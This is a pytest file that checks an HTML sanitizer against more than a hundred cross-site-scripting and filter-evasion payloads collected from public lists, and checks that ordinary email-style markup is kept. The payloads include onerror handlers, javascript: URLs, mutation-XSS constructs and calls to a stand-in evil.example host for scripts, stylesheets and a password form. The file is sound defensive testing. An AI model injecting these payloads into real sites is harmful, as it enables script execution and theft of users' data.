"""HTML from outside: known ways to smuggle scripts, and what must stay readable."""

import re
from html.parser import HTMLParser

import pytest

from vinculo.web.sanitizing import ATTRIBUTES, TAGS, sanitize

# After collections that everybody tries: OWASP's filter evasion, PortSwigger's, DOMPurify's, html5sec.
VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<SCRIPT>alert(1);//\\<</SCRIPT>",
    "<script\x20type='text/javascript'>javascript:alert(1)</script>",
    "<script/x>alert(1)</script >",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=\"jav&#x09;ascript:alert('x');\">",
    "<img src=`javascript:alert(1)`>",
    '<img """><script>alert(1)</script>">',
    "<img src='x'onerror='alert(1)'>",
    "<img/src=x/onerror=alert(1)//",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<img srcset='https://evil.example/x.png 1x'>",
    "<image src=https://evil.example/x.png>",
    "<img src=data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+>",
    "<img src='data:text/html,<script>alert(1)</script>'>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=#x'></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math href='javascript:alert(1)'>x</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' &#14;  javascript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='blob:https://crm.example.com/1'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='/sign-out'>x</a>",
    "<a href='https:/\\evil.example'>x</a>",
    "<a href='#' onclick='alert(1)' hx-get='/clients' hx-trigger=load>x</a>",
    "<a href=https://x.example target=_self rel=opener ping=https://evil.example>x</a>",
    "<div hx-get='/clients' hx-trigger='load' data-hx-post='/clients/1/delete'>x</div>",
    "<div style='background:url(https://evil.example/x)'>x</div>",
    "<div style='position:fixed;inset:0'>x</div>",
    "<div class='dialog' id='main' name='csrf' data-theme='dark'>x</div>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<STYLE>li {list-style-image: url('javascript:alert(1)');}</STYLE><UL><LI>x",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=prefetch href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href='javascript:alert(1)//'>",
    "<base href=https://evil.example/>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='javascript:alert(1)'>",
    "<applet code=x.class></applet>",
    "<form action=https://evil.example><input name=password><button formaction=javascript:alert(1)>x</form>",
    "<isindex action=javascript:alert(1) type=image>",
    "<input onfocus=alert(1) autofocus>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video poster=https://evil.example/x.png><source onerror=alert(1)></video>",
    "<video src=https://evil.example/x.mp4 autoplay>",
    "<audio src=x onerror=alert(1)>",
    "<picture><source srcset=https://evil.example/x.png></picture>",
    "<body onload=alert(1) background=https://evil.example/x.png>",
    "<table background='https://evil.example/x.png'><td background=https://evil.example/y.png>x</table>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<xss onpointerrawupdate=alert(1) contenteditable>x</xss>",
    "<x onclick=alert(1)>x",
    "<custom-element is=x>x</custom-element>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'>",
    "<title><p title='</title><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<noembed><p title='</noembed><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "<plaintext><script>alert(1)</script>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\x00<script\x00>alert(1)</script>",
    "<a href=\"https://x.example/'onmouseover='alert(1)\">x</a>",
    "<q cite='javascript:alert(1)'>x</q>",
    "<blockquote cite=https://evil.example>x</blockquote>",
    "<img usemap=#m><map name=m><area href=javascript:alert(1)></map>",
    "<p title=\"x' onmouseover='alert(1)\">x</p>",
    "<a href='tel:1 onclick=alert(1)'>x</a>",
    "<dialog open><form method=dialog><button>x</dialog>",
    "<portal src=https://evil.example></portal>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<bgsound src=https://evil.example/x.wav>",
    "<layer src=https://evil.example></layer>",
    "<div><option><select><img src=x onerror=alert(1)></select></option></div>",
    (
        "<table><caption><svg><title><table><caption></table></title>"
        "<style><a id='</style><img src=x onerror=alert(1)>'></style>"
    ),
]
LINK = re.compile(r"(https?://|mailto:|tel:)\S+")


class Reading(HTMLParser):
    """Every tag of some HTML with its attributes."""

    def __init__(self, html):
        super().__init__()
        self.tags = []
        self.feed(str(html))
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))


def harmless(html):
    """Whether all that is left is on the lists, and leads and loads nowhere it may not."""
    for tag, attributes in Reading(html).tags:
        assert tag in TAGS
        known = ATTRIBUTES["*"] | ATTRIBUTES.get(tag, set()) | ({"rel", "target"} if tag == "a" else set())
        assert set(attributes) <= known
        assert LINK.fullmatch(attributes.get("href", "https://none"))
        assert attributes.get("src", "data:image/png;").startswith("data:image/")
        if tag == "a":
            assert attributes["rel"] == "noopener noreferrer nofollow"
            assert attributes["target"] == "_blank"
    return True


@pytest.mark.parametrize("vector", VECTORS)
def test_nothing_that_runs_or_loads_is_left(vector):
    for html in (
        vector,
        f"<div>{vector}</div>",
        f"<table><tr><td>{vector}",
        f"<!--{vector}",
        f"{vector}{vector}",
    ):
        clean = sanitize(html).html
        assert harmless(clean)
        again = sanitize(clean).html
        assert Reading(again).tags == Reading(clean).tags  # whoever reads it again finds nothing new


def test_what_people_write_stays():
    html = (
        '<h2>Offer</h2><p dir="rtl">Dear <b>Ms Luz</b>,<br>see <a href="https://x.example/?a=1&amp;b=2">this</a>'
        ' or <a href="mailto:a@x.example">write</a>.</p><table><tr><td colspan="2">1 &lt; 2</td></tr></table>'
        '<ol start="3"><li>three</li></ol><img alt="Logo" src="data:image/png;base64,iVBORw0KGgo=">'
    )

    clean = sanitize(html)

    assert clean.blocked_images == 0
    for part in ("<h2>Offer</h2>", '<p dir="rtl">', "<b>Ms Luz</b>", 'href="https://x.example/?a=1&amp;b=2"'):
        assert part in clean.html
    for part in (
        'href="mailto:a@x.example"',
        '<td colspan="2">1 &lt; 2</td>',
        '<ol start="3">',
        "iVBORw0KGgo=",
    ):
        assert part in clean.html


def test_images_of_others_are_counted_and_not_asked_for():
    html = (
        '<img src="https://t.example/1.gif" alt="Logo"><img src=cid:part1><img src="//t.example/2.gif">'
        '<img src="/clients/1/photo"><img src="http://t.example/3.gif">'
    )

    clean = sanitize(html)

    assert clean.blocked_images == 3
    assert "src" not in clean.html
    assert 'alt="Logo"' in clean.html


def test_text_that_was_not_meant_to_be_read_goes():
    html = "<title>T</title><style>p {}</style><script>s()</script>Hello<noscript>n</noscript>"

    assert sanitize(html).html == "Hello"


def test_a_tag_may_be_nested_as_deeply_as_anybody_likes():
    assert "x" in sanitize("<div>" * 20_000 + "x").html
    assert sanitize("<b>" * 2_000 + "x" + "</i>" * 2_000).html


def test_what_comes_out_is_markup_and_needs_no_escaping():
    assert "{}".format(sanitize("<b>x</b>").html) == "<b>x</b>"
    assert sanitize("<b>x</b>").html.__html__() == "<b>x</b>"
